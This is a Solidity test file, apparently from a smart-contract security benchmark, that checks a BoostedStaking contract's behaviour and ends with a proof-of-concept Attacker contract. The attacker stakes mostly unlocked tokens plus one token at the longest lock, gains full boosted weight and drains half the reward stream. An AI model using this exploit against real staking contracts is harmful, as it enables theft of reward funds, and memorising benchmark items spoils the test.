// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

// assay-canary-8750a6e4-aa71-44bf-bb7a-16db4692172b

import "./BoostedStaking.sol";
import {Ownable} from "@openzeppelin/contracts@5.4.0/access/Ownable.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

interface Vm {
    function expectRevert() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Gov is ERC20 {
    constructor(string memory symbol) ERC20(symbol, symbol) {
        _mint(msg.sender, 1e30);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_790_000_000;
    uint256 private constant RATE = 1e15;
    address private constant ANA = address(0xA9A);
    address private constant BO = address(0xB0);
    address private constant TREASURY = address(0x7EA);

    Gov private gov;
    Gov private cash;
    Gov private bonus;
    BoostedStaking private staking;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        gov = new Gov("GOV");
        cash = new Gov("CASH");
        bonus = new Gov("BONUS");
        staking = new BoostedStaking(gov, 1_000_000e18, TREASURY);
        mallory = new Attacker(staking, gov, cash);
        gov.transfer(ANA, 1_000e18);
        gov.transfer(BO, 2_000e18);
        gov.transfer(address(mallory), 1_000e18);
        cash.approve(address(staking), type(uint256).max);
        bonus.approve(address(staking), type(uint256).max);
        vm.prank(BO);
        gov.approve(address(staking), type(uint256).max);
        vm.startPrank(ANA);
        gov.approve(address(staking), type(uint256).max);
        staking.stake(1_000e18, 360 days);
        vm.stopPrank();
        staking.addToken(cash);
        staking.startStream(cash, 90 days * RATE, 90 days);
    }

    /// Whether the attacker's weight is that of its lots, each weighed by the time it is locked for.
    function weightIsEarned() public view returns (bool) {
        BoostedStaking.Lot[] memory lots = staking.lotsOf(address(mallory));
        uint256 most;
        for (uint256 i = 0; i < lots.length; ++i) {
            most += LockTiers.weight(lots[i].amount, lots[i].until - lots[i].since);
        }
        return staking.weightOf(address(mallory)) <= most + lots.length + 1;
    }

    function _near(uint256 a, uint256 b) private pure returns (bool) {
        return a + 1e6 >= b && b + 1e6 >= a;
    }

    function test_Regular() public {
        // Alone, then beside tokens without a lock: three to one.
        vm.warp(START + 10 days);
        require(_near(staking.earned(cash, ANA), 10 days * RATE), "earned");
        vm.prank(ANA);
        require(_near(staking.claim(cash, address(0xA1)), 10 days * RATE), "alone");
        vm.startPrank(BO);
        staking.stake(400e18, 0);
        staking.stake(600e18, 0);
        vm.stopPrank();
        require(staking.weightOf(BO) == 1_000e18 && staking.totalWeight() == 4_000e18, "weights");
        require(staking.shareOf(BO) == 250_000 && staking.preview(100e18, 90 days) == 150e18, "shares");
        vm.warp(START + 30 days);
        vm.prank(ANA);
        staking.claimAll();
        require(_near(cash.balanceOf(ANA), 15 days * RATE), "three quarters");
        vm.prank(BO);
        require(_near(staking.claim(cash, BO), 5 days * RATE), "one quarter");
        require(weightIsEarned() && staking.freeOf(BO) == 1_000e18 && staking.nextUnlock(BO) == 0, "no lock");

        // What is free goes, what is locked stays.
        vm.startPrank(BO);
        require(staking.unstake(0) == 400e18 && staking.lotsOf(BO)[0].amount == 600e18, "taken back");
        require(staking.unstakeAll() == 600e18 && staking.totalWeight() == 3_000e18, "all taken back");
        require(staking.totalStaked() == 1_000e18 && gov.balanceOf(BO) == 2_000e18, "in full");

        // An empty position may begin with another lock, which then stands.
        staking.stake(400e18, 90 days);
        require(staking.weightOf(BO) == 600e18, "weight of 90 days");
        vm.warp(START + 60 days);
        staking.stake(600e18, 90 days);
        require(staking.nextUnlock(BO) == START + 120 days && staking.freeOf(BO) == 0, "next unlock");
        (uint128 amount, uint64 lock, uint64 lots) = staking.positions(BO);
        require(amount == 1_000e18 && lock == 90 days && lots == 2, "position");
        require(staking.exitEarly(1) == 480e18 && gov.balanceOf(TREASURY) == 120e18, "exit for a fee");
        staking.stake(200e18, 90 days);
        vm.warp(START + 120 days);
        require(staking.unstakeAll() == 400e18 && staking.weightOf(BO) == 300e18, "one of two lots");
        staking.relock(0);
        require(staking.lotsOf(BO)[0].until == START + 210 days, "locked once more");
        vm.warp(START + 130 days);
        staking.relockAll();
        require(staking.nextUnlock(BO) == START + 220 days, "and again");
        vm.stopPrank();
        _owner();
    }

    function _owner() private {
        staking.setPaused(true);
        require(staking.paused(), "paused");
        staking.setPaused(false);
        staking.setStakeCap(3_000e18);
        staking.setExitFee(500);
        staking.setTreasury(address(0x7EB));
        Gov stray = new Gov("STRAY");
        stray.transfer(address(staking), 5e18);
        staking.recover(stray, 5e18);
        require(stray.balanceOf(address(0x7EB)) == 5e18, "recovered");

        // A second reward, and a second stream of the first: 3,300 of weight.
        staking.addToken(bonus);
        require(staking.tokenCount() == 2 && staking.rewardTokens(1) == bonus, "two tokens");
        staking.startStream(bonus, 3_300 * 10 days, 10 days);
        staking.startStream(cash, 33e15 * 10 days, 10 days);
        vm.warp(START + 135 days);
        staking.topUp(cash, 33e15 * 5 days);
        vm.warp(START + 137 days);
        vm.prank(BO);
        staking.claimAll();
        require(_near(cash.balanceOf(BO), 5 days * RATE + _later()), "faster");
        require(bonus.balanceOf(BO) <= 300 * 7 days && bonus.balanceOf(BO) + 10 >= 300 * 7 days, "bonus");

        // Nobody is left for the last three days but one.
        vm.prank(BO);
        staking.exitEarly(0);
        vm.startPrank(ANA);
        staking.exitEarly(0);
        vm.stopPrank();
        require(staking.totalStaked() == 0 && staking.totalWeight() == 0 && staking.shareOf(BO) == 0, "empty");
        require(gov.balanceOf(ANA) == 950e18, "less the fee");
        vm.warp(START + 139 days);
        vm.prank(BO);
        staking.stake(100e18, 0);
        require(staking.collectIdle(cash) == 66e15 * 2 days && cash.balanceOf(address(0x7EB)) == 66e15 * 2 days, "idle");
        vm.warp(START + 150 days);
        require(_near(staking.earned(cash, BO), 66e15 * 1 days), "the last day");

        staking.transferOwnership(ANA);
        vm.startPrank(ANA);
        staking.acceptOwnership();
        staking.renounceOwnership();
        vm.stopPrank();
    }

    // Of the old stream 600 of 3,600 for 30 days, 1,500 of 4,500 for none, and 900 of 3,900 for the last 30; of the new one 300 of 3,300.
    function _later() private pure returns (uint256) {
        return 30 days * RATE / 6 + 30 days * RATE * 900 / 3_900 + 3e15 * 5 days + 6e15 * 2 days;
    }

    // What is refused, each from the state after setUp().

    function test_RefusesSetups() public {
        vm.expectRevert("no gov");
        new BoostedStaking(IERC20(address(0)), 1, TREASURY);
        vm.expectRevert("no treasury");
        new BoostedStaking(gov, 1, address(0));
    }

    function test_RefusesStakes() public {
        vm.startPrank(BO);
        vm.expectRevert("too little");
        staking.stake(1e18 - 1, 0);
        vm.expectRevert(abi.encodeWithSelector(LockTiers.NoSuchLock.selector, 91 days));
        staking.stake(1e18, 91 days);
        for (uint256 i = 0; i < 32; ++i) staking.stake(1e18, 0);
        vm.expectRevert("too many lots");
        staking.stake(1e18, 0);
        vm.stopPrank();
        staking.setStakeCap(1_040e18);
        vm.startPrank(ANA);
        gov.approve(address(staking), 0);
        vm.expectRevert(abi.encodeWithSelector(BoostedStaking.AboveCap.selector, 1_040e18));
        staking.stake(8e18 + 1, 360 days);
        vm.expectRevert();
        staking.stake(8e18, 360 days);
        vm.stopPrank();
        staking.setPaused(true);
        vm.prank(BO);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        staking.stake(1e18, 0);
    }

    function test_RefusesOtherLocks() public {
        vm.startPrank(BO);
        staking.stake(400e18, 90 days);
        vm.expectRevert(abi.encodeWithSelector(BoostedStaking.LockDiffers.selector, 180 days, 90 days));
        staking.stake(100e18, 180 days);
        vm.expectRevert(abi.encodeWithSelector(BoostedStaking.LockDiffers.selector, 0, 90 days));
        staking.stake(100e18, 0);
        vm.stopPrank();
    }

    function test_RefusesLeaving() public {
        vm.startPrank(ANA);
        vm.expectRevert(abi.encodeWithSelector(BoostedStaking.NoSuchLot.selector, 1));
        staking.unstake(1);
        vm.expectRevert(abi.encodeWithSelector(BoostedStaking.NoSuchLot.selector, 1));
        staking.exitEarly(1);
        vm.expectRevert(abi.encodeWithSelector(BoostedStaking.NoSuchLot.selector, 1));
        staking.relock(1);
        vm.warp(START + 360 days - 1);
        vm.expectRevert(abi.encodeWithSelector(BoostedStaking.StillLocked.selector, START + 360 days));
        staking.unstake(0);
        vm.expectRevert("nothing is free");
        staking.unstakeAll();
        vm.warp(START + 360 days);
        vm.expectRevert("lot is free");
        staking.exitEarly(0);
        staking.unstake(0);
        staking.stake(10e18, 0);
        vm.expectRevert("no lock");
        staking.relock(0);
        vm.expectRevert("no lock");
        staking.relockAll();
        vm.stopPrank();
    }

    function test_RefusesStreams() public {
        vm.expectRevert(abi.encodeWithSelector(RewardStreams.StreamRuns.selector, START + 90 days));
        staking.startStream(cash, 1e18, 7 days);
        vm.expectRevert("known token");
        staking.addToken(cash);
        vm.expectRevert(abi.encodeWithSelector(RewardStreams.NotAReward.selector, address(bonus)));
        staking.startStream(bonus, 1e18, 7 days);
        vm.expectRevert(abi.encodeWithSelector(RewardStreams.NotAReward.selector, address(bonus)));
        staking.claim(bonus, ANA);
        staking.addToken(bonus);
        vm.expectRevert("no stream");
        staking.topUp(bonus, 1e18);
        vm.expectRevert("bad duration");
        staking.startStream(bonus, 1e18, 7 days - 1);
        vm.expectRevert("bad duration");
        staking.startStream(bonus, 1e18, 365 days + 1);
        vm.expectRevert("rate is zero");
        staking.startStream(bonus, 7 days - 1, 7 days);
        staking.startStream(bonus, 7 days, 7 days);
        vm.warp(START + 7 days);
        vm.expectRevert("no stream");
        staking.topUp(bonus, 1e18);
        staking.startStream(bonus, 365 days, 365 days);
        staking.addToken(new Gov("C"));
        staking.addToken(new Gov("D"));
        IERC20 fifth = new Gov("E");
        vm.expectRevert("too many tokens");
        staking.addToken(fifth);
    }

    function test_RefusesBadSettings() public {
        vm.expectRevert("no treasury");
        staking.setTreasury(address(0));
        vm.expectRevert("fee too high");
        staking.setExitFee(3_001);
        staking.setExitFee(3_000);
        vm.expectRevert("not the stakes");
        staking.recover(gov, 1);
        vm.expectRevert("not the rewards");
        staking.recover(cash, 1);
    }

    function test_RefusesStrangers() public {
        vm.startPrank(ANA);
        _refuse();
        staking.setPaused(true);
        _refuse();
        staking.setStakeCap(1);
        _refuse();
        staking.setExitFee(0);
        _refuse();
        staking.recover(bonus, 0);
        _refuse();
        staking.addToken(bonus);
        vm.warp(START + 90 days);
        cash.approve(address(staking), 1e30);
        _refuse();
        staking.startStream(cash, 0, 7 days);
        _refuse();
        staking.topUp(cash, 0);
        _refuse();
        staking.collectIdle(cash);
        _refuse();
        staking.setTreasury(ANA);
        _refuse();
        staking.transferOwnership(ANA);
        _refuse();
        staking.renounceOwnership();
        _refuse();
        staking.acceptOwnership();
        vm.stopPrank();
    }

    function _refuse() private {
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, ANA));
    }

    function exploit() public {
        mallory.begin();
        vm.warp(block.timestamp + 30 days);
        mallory.collect();
    }

    function test_Exploit() public {
        exploit();
        require(!weightIsEarned() && staking.weightOf(address(mallory)) == 3_000e18, "weight of a locked position");
        mallory.leave();
        require(cash.balanceOf(address(mallory)) >= (15 days - 1) * RATE, "half of the rewards");
        require(gov.balanceOf(address(mallory)) == 999e18, "and the tokens are back");
    }

    function target() public view returns (address) {
        return address(staking);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

/// A staker with 1,000 tokens who would like the weight of the longest lock and none of its patience.
contract Attacker {
    BoostedStaking private staking;
    Gov private gov;
    Gov private cash;

    constructor(BoostedStaking s, Gov g, Gov c) {
        staking = s;
        gov = g;
        cash = c;
    }

    function begin() external {
        gov.approve(address(staking), type(uint256).max);
        staking.stake(999e18, 0);
        staking.stake(1e18, 360 days);
    }

    function collect() external {
        staking.claim(cash, address(this));
    }

    function leave() external {
        staking.unstake(0);
    }
}
